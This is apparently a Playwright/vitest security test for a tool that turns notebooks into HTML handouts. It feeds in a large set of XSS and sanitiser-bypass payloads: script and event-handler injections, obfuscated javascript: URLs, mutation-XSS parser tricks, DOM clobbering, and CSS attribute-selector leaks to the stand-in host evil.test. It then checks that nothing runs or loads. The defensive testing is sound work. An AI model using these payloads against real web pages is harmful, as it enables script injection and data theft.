import { mkdtempSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { pathToFileURL } from "node:url";
import type { Browser } from "playwright-core";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { writeHandouts } from "../../src/handout/write-handouts";
import { openBrowser } from "../../src/pictures/browser";
import { codeCell, display, figureOutput, markdownCell, notebookOf } from "./fixture";

const browser: Browser | undefined = await openBrowser({ log: console.log });
if (!browser) console.log("skipped: no browser found, hostile notebooks were not opened in one");
const folder = mkdtempSync(join(tmpdir(), "klab 讲义 "));
afterAll(async () => {
  await browser?.close();
  rmSync(folder, { recursive: true, force: true });
});

const evil = "http://evil.test";
const run = 'parent.document.title=document.title="ran"';

const html = [
  `<script>${run}</script>`,
  `<img src=x onerror='${run}'><img src="${evil}/a.png" srcset="${evil}/b.png 2x">`,
  `<svg onload='${run}'><script>${run}</script><image href="${evil}/c.png"/><use href="${evil}/d.svg#x"/></svg>`,
  `<iframe src="${evil}/e"></iframe><object data="${evil}/f"></object><embed src="${evil}/g">`,
  `<meta http-equiv="refresh" content="0;url=${evil}/h"><base href="${evil}/"><link rel=stylesheet href="${evil}/i.css">`,
  `<style>@import url(${evil}/j.css);body{background:url(${evil}/k.png)}</style>`,
  `<div style="background:url(${evil}/l.png);position:fixed;inset:0;z-index:99">甲</div>`,
  `<video src="${evil}/m" poster="${evil}/n.png" autoplay></video><audio src="${evil}/o" autoplay></audio>`,
  `<form action="${evil}/p"><button autofocus onfocus='${run}'>x</button></form>`,
  `<details open ontoggle='${run}'><summary>x</summary>y</details>`,
  `<p title="<svg><rect/></svg>" onmouseover='${run}'>x</p>`,
  `<a id="Plotly"></a><a id="klabExplorer" name="DecompressionStream"></a><div id="exports"></div><div id="module"></div>`,
  `<a href="${evil}/q" ping="${evil}/r">x</a>`,
  `<math><maction actiontype="statusline" href="javascript:${run}">x</maction></math>`,
  `<!--><img src=x onerror='${run}'>-->`,
  `<a href="java\tscript:${run}">x</a><a href=" javascript:${run}">x</a><a href="&#106;avascript:${run}">x</a>`,
  `<svg><a xlink:href="javascript:${run}"><text y="9">x</text></a><animate attributeName="href" values="javascript:${run}"/><set onbegin='${run}'/></svg>`,
  `<map name="m"><area href="javascript:${run}"></map><img usemap="#m" src="${evil}/aa.png" lowsrc="${evil}/ab.png">`,
  `<iframe srcdoc="<script>parent.document.title='ran'</script>"></iframe><frameset onload='${run}'><frame src="${evil}/ac"></frameset>`,
  `<form id=f></form><button form=f formaction="javascript:${run}">x</button><input type=image src="${evil}/ad.png" formaction="${evil}/ae">`,
  `<meta http-equiv="refresh" content="0;url=data:text/html,x"><meta http-equiv="Content-Security-Policy" content="script-src 'none'">`,
  `<link rel="preload" as="image" href="${evil}/af.png"><link rel="prefetch" href="${evil}/ag"><link rel="dns-prefetch" href="//evil.test">`,
  `<style>input[value^=a]{background:url(${evil}/ah)}p{background:image-set("${evil}/ai.png" 1x);cursor:url(${evil}/aj),auto}</style><input value=abc><p>x</p>`,
  `<table background="${evil}/ak.png"><tr><td style="list-style:url(${evil}/al.png);content:url(${evil}/am.png)">x</td></tr></table>`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror='${run}'></annotation-xml><mtext><img src=x onerror='${run}'></mtext></math>`,
  `<template><img src=x onerror='${run}'></template><xmp><img src=x onerror='${run}'></xmp><plaintext>`.replace(
    "<plaintext>",
    "",
  ),
  `<marquee onstart='${run}'>x</marquee><body onload='${run}' background="${evil}/an.png"><isindex action="javascript:${run}">`,
  `<noscript><p title="</noscript><img src=x onerror='${run}'>"></noscript>`,
  // Names of schemes in disguise.
  `<a href="java&#x0a;script:${run}">x</a><a href="java&Tab;script&colon;${run}">x</a><a href="\u0001javascript:${run}">x</a><a href="j&#97;v&#x61;script&#58;${run}">x</a>`,
  `<a href="jav\u0000ascript:${run}">x</a><a href="\u00a0javascript:${run}">x</a><a href="data:text/html;base64,PHNjcmlwdD4x">x</a><a href="feed:javascript:${run}">x</a><a href="view-source:${evil}">x</a>`,
  // Forms whose parts lie apart.
  `<form id=g action="${evil}/ba"><input type=submit></form><button type=submit form=g formaction="${evil}/bb" formtarget=_top>x</button><input form=g type=submit formmethod=post><label for=g>x</label><output form=g>x</output>`,
  // Pictures within pictures, and what moves their addresses.
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg' onload='${run}'/>#x"/><use xlink:href="${evil}/bc.svg#x"/></svg>`,
  `<svg><a><animate attributeName=href values="javascript:${run}"/><set attributeName="xlink:href" to="javascript:${run}"/><text y=9>x</text></a><animate attributeName=onclick to='${run}'/><animateTransform onend='${run}'/><discard onbegin='${run}'/></svg>`,
  `<svg><image xlink:href="${evil}/bd.png"/><feImage href="${evil}/be.png"/><filter><feImage xlink:href="${evil}/bf"/></filter><rect fill="url(${evil}/bg#x)" style="fill:url('${evil}/bh#x');mask:url(${evil}/bi)"/><handler type="application/ecmascript">${run}</handler></svg>`,
  // Loads without a picture.
  `<picture><source srcset="${evil}/bj.png 1x, ${evil}/bk.png 2x"><img srcset="${evil}/bl 100w" sizes=1px alt=x></picture><video><source src="${evil}/bm"><track src="${evil}/bn" default></video>`,
  `<link rel=preload as=script href="${evil}/bo.js"><link rel=modulepreload href="${evil}/bp.js"><link rel=preconnect href="${evil}"><link rel=icon href="${evil}/bq.ico"><link rel=manifest href="${evil}/br"><link rel=prerender href="${evil}/bs">`,
  `<base href="${evil}/" target=_top><base href="javascript:${run}//"><a href="bt">x</a>`,
  `<style>@import "${evil}/bu.css";@import url('${evil}/bv.css') screen;@font-face{font-family:f;src:url(${evil}/bw)}a:has(+a){background:url(${evil}/bx)}*{-webkit-mask:url(${evil}/by)}@namespace url(${evil}/bz);:root{--x:url(${evil}/ca)}p::before{content:var(--x)}</style>`,
  `<p style="background:\\75rl(${evil}/cb)">x</p><p style="background-image:-webkit-image-set('${evil}/cc' 1x);behavior:url(${evil}/cd);-moz-binding:url(${evil}/ce)">x</p><p style="width:expression(${run})">x</p>`,
  `<object data="data:text/html,<script>parent.document.title='ran'</script>" type="text/html"></object><object data="${evil}/cf"><param name=src value="${evil}/cg"></object><embed src="data:text/html,x" type="text/html"><applet code="${evil}/ch"></applet><portal src="${evil}/ci"></portal>`,
  `<META HTTP-EQUIV=" refresh" CONTENT="0, URL='${evil}/cj'"><meta http-equiv=set-cookie content=a=b><meta http-equiv=x-dns-prefetch-control content=on><meta name=referrer content=unsafe-url>`,
  // Markup that a second reading reads otherwise.
  `<svg></p><style><a id="</style><img src=x onerror='${run}'>"></svg>`,
  `<math><mtext><table><mglyph><style><math>CLICKME</style><img src=x onerror='${run}'></math>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror='${run}'></style></mglyph></form>`,
  `<noscript><style></noscript><img src=x onerror='${run}'></style></noscript>`,
  `<template><style></template><img src=x onerror='${run}'></style></template><template shadowrootmode=open><img src=x onerror='${run}'></template>`,
  `<math><annotation-xml encoding="application/xhtml+xml"><style><img title="</style><img src=x onerror='${run}'>"></style></annotation-xml></math>`,
  `<svg><foreignObject><math><mi><style><!--</style><img title="--&gt;&lt;img src=x onerror='${run}'&gt;"></mi></math></foreignObject></svg>`,
  `<textarea><p title="</textarea><img src=x onerror='${run}'>"></textarea><title><p title="</title><img src=x onerror='${run}'>"></title><select><style></select><img src=x onerror='${run}'></style></select>`,
  `<![CDATA[<img src=x onerror='${run}'>]]><?xml-stylesheet href="${evil}/ck"?><!DOCTYPE x [<!ENTITY e SYSTEM "${evil}/cl">]>&e;`,
  `<div data-live=run data-cell=1 class="cell code"><textarea>${run}</textarea></div><script type="application/json" class="set-up" id="set-up-1">["${run}"]</script><div popover id=pop>x</div><button popovertarget=pop onclick='${run}'>x</button><dialog open onclose='${run}'>x</dialog>`,
  `<a id=__proto__ name=constructor>x</a><form id=document><input name=cookie></form><img name=getElementById><a id=location href="javascript:${run}">x</a>`,
  // As wide as it is deep.
  `${"<blockquote>".repeat(300)}深${"</blockquote>".repeat(300)}${"<ul><li>".repeat(300)}深`,
];
/** What Markdown, formulas and errors may bring. */
const texts = [
  `[x](javascript:${run}) [y](JaVaScRiPt:${run}) [z](data:text/html,<script>${run}</script>) [v](vbscript:x)`,
  `![x](${evil}/ba.png) ![y](//evil.test/bb.png) ![z][r]\n\n[r]: ${evil}/bc.png`,
  `<javascript:${run}> $\\href{javascript:${run}}{x}$ $\\includegraphics{${evil}/bd.png}$ $\\htmlStyle{background:url(${evil}/be)}{x}$`,
  `::: hint <img src=x onerror='${run}'>\n<script>${run}</script>\n:::`,
];
const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload='${run}'><script>${run}</script><style>@import url(${evil}/s.css);@font-face{font-family:x;src:url(${evil}/t)}text{font-family:x;fill:u\\72l(${evil}/u)}</style><image href="${evil}/v.png"/><foreignObject><iframe src="${evil}/w"></iframe><img src="${evil}/y"/></foreignObject><text x="9" y="9">x</text><rect id="seen" width="9" height="9"/></svg>`;

describe.skipIf(!browser)("a notebook that means harm, in a browser", () => {
  beforeAll(async () => {
    const cells = html.flatMap((markup) => [
      markdownCell(markup),
      markdownCell(`前 ${markup} 后`),
      codeCell("x", [display({ "text/html": markup, "text/plain": "甲" })]),
      codeCell("x", [display({ "text/markdown": markup })]),
    ]);
    const more = texts.flatMap((text) => [
      markdownCell(text),
      codeCell("x", [display({ "text/markdown": text }), display({ "text/latex": text })]),
      codeCell(text, [
        { output_type: "stream", name: "stderr", text },
        {
          output_type: "error",
          ename: text,
          evalue: text,
          traceback: [`\u001b]8;;javascript:${run}\u0007${text}`],
        },
      ]),
      { ...markdownCell("# x"), id: `"><img src=x onerror='${run}'>` },
    ]);
    const drawings = [
      codeCell("x", [display({ "image/svg+xml": svg })]),
      codeCell("x", [display({ "text/html": `<p>图${svg}</p>` })]),
      markdownCell(`<div>${svg}</div>`),
    ];
    const figures = [
      figureOutput({ data: [{ y: [1, 2] }], layout: { title: { text: "图" } } }),
      figureOutput({ data: [{ y: [1, 2] }], layout: { xaxis: { tickformat: "099999999" } } }),
      figureOutput({ data: [{ y: [1, 2] }], layout: { height: 1e9, width: 1e9 } }),
    ];
    const named = {
      ...notebookOf([...cells, ...more, ...drawings, codeCell("f", figures)]),
      metadata: {
        title: `</title><script>${run}</script>`,
        kernelspec: { name: "x", language: `ts"><script>${run}</script>` },
      },
    };
    await writeHandouts([{ name: "x", notebook: named }], {
      out: folder,
      audiences: ["teacher"],
      renderer: undefined,
      log: () => {},
    });
  }, 60_000);

  test("runs nothing, asks for nothing, goes nowhere, and its other figures live", async () => {
    const context = await browser!.newContext();
    const page = await context.newPage();
    const requests: string[] = [];
    await context.route("**/*", (route) => {
      const url = route.request().url();
      if (/^(?:file|data|blob):/.test(url)) return route.continue();
      requests.push(url);
      return route.abort();
    });
    page.on("dialog", (dialog) => {
      requests.push(dialog.message());
      dialog.dismiss();
    });
    const address = pathToFileURL(join(folder, "x.teacher.html")).href;
    await page.goto(address);
    const title = await page.title();
    for (const figure of await page.locator("figure.plot").all())
      await figure.scrollIntoViewIfNeeded();
    await expect
      .poll(() => page.locator("figure.plot[data-state=live]").count(), { timeout: 20_000 })
      .toBe(2);
    expect(await page.locator("figure.plot[data-state=still]").count()).toBe(1);
    expect(await page.evaluate("document.documentElement.scrollHeight")).toBeLessThan(60_000);
    const leads = await page.evaluate(
      `[...document.querySelectorAll('[href],[src],[action],[formaction],[srcdoc],[background],[ping],[srcset],[data],[poster]')]
        .flatMap((e) => [...e.attributes].filter(({ name }) => /href|src|action|background|ping|^data$|poster/.test(name)))
        .map(({ value }) => value)
        .filter((value) => {
          // As a browser reads an address.
          const { protocol, href } = URL.canParse(value, location.href) ? new URL(value, location.href) : location;
          return !/^(?:https?|mailto|file):$/.test(protocol) && !/^data:(?:image|font)\\//.test(href);
        })`,
    );
    expect(leads).toEqual([]);
    expect(
      await page.evaluate(
        "document.documentElement.scrollWidth - document.documentElement.clientWidth",
      ),
    ).toBe(0);
    const pictures = await page.evaluate(
      "[...document.images].filter((i) => i.src.startsWith('data:image/svg')).map((i) => i.naturalWidth > 0)",
    );
    expect(pictures).not.toContain(false);
    expect((pictures as boolean[]).length).toBeGreaterThanOrEqual(3);
    await page.waitForTimeout(500);
    expect(await page.title()).toBe(title);
    expect(page.url()).toBe(address);
    expect(requests).toEqual([]);
    await context.close();
  }, 60_000);

  test("is all where it says it is: nothing covers the page", async () => {
    const page = await browser!.newPage();
    await page.goto(pathToFileURL(join(folder, "x.teacher.html")).href);
    const loose = await page.evaluate(
      "[...document.querySelectorAll('main *')].filter((e) => !e.closest('.katex,.input,.card,svg') && getComputedStyle(e).position !== 'static').length",
    );
    expect(loose).toBe(0);
    await page.close();
  });
});
